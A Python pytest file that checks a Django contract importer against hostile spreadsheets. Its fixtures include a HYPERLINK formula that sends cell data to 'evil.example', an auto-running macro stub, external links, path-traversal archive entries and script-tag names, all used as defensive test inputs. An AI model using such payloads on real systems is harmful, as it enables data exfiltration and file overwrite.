"""Files that carry what a table has no need of: the rows come in, and nothing else of them does."""

import io
import zipfile

import pytest
from openpyxl import Workbook

from contracts.models import Contract
from tests import factories
from tests.importing import counted, imported

pytestmark = pytest.mark.django_db

ATTACK = "<script>alert(1)"
HEADINGS = ["borough", "title", "reference", "supplier"]
ROW = ["Camden", "Housing system", "CON-1", "Acme Ltd"]


@pytest.fixture(autouse=True)
def authority():
    return factories.borough("Camden")


def book(change=None, members=None):
    """A workbook of one contract, changed, with further parts in its archive."""
    workbook, written = Workbook(), io.BytesIO()
    workbook.active.append(HEADINGS)
    workbook.active.append(ROW)
    if change:
        change(workbook.active)
    workbook.save(written)
    with zipfile.ZipFile(written, "a") as archive:
        for name, content in (members or {}).items():
            archive.writestr(name, content)
    return written.getvalue()


def calls_out(sheet):
    sheet["E1"], sheet["F1"] = "notes", "department"
    sheet["E2"] = '=HYPERLINK("http://evil.example/?"&A2)'
    sheet["F2"] = "=[1]Sheet1!A1"


def million_blank_rows(sheet):
    sheet["A1000000"], sheet["B1000000"], sheet["C1000000"] = "Camden", "Payroll system", "CON-2"


def named_as_markup(sheet):
    sheet.title = ATTACK.replace("/", "")


LINK = '<externalLink><externalBook r:id="rId1"/></externalLink>'
FILES = {
    "formulas.xlsx": (lambda: book(calls_out), 1),
    "macros.xlsm": (lambda: book(members={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub AutoOpen()"}), 1),
    "links.xlsx": (lambda: book(members={"xl/externalLinks/externalLink1.xml": LINK}), 1),
    "traversal.xlsx": (lambda: book(members={"../../../evil.txt": "x", "/evil.txt": "x"}), 1),
    "markup.xlsx": (lambda: book(named_as_markup), 1),
    "blank-rows.xlsx": (lambda: book(million_blank_rows), 2),
    f"{ATTACK}.xlsx": (book, 1),
    "..%2f..%2fevil.xlsx": (book, 1),
}


@pytest.mark.parametrize("name", FILES)
def test_what_is_no_table_does_no_harm(tmp_path, uploads, name):
    content, rows = FILES[name]
    folder = tmp_path / "sent"
    folder.mkdir()
    (folder / name).write_bytes(content())

    batch = imported(folder / name)

    assert counted(batch) == {"new": rows}
    assert Contract.objects.filter(title="Housing system").exists()
    assert not Contract.objects.filter(notes__contains="HYPERLINK").exists()
    assert not list(tmp_path.rglob("evil.txt"))
    assert not list(uploads.iterdir())
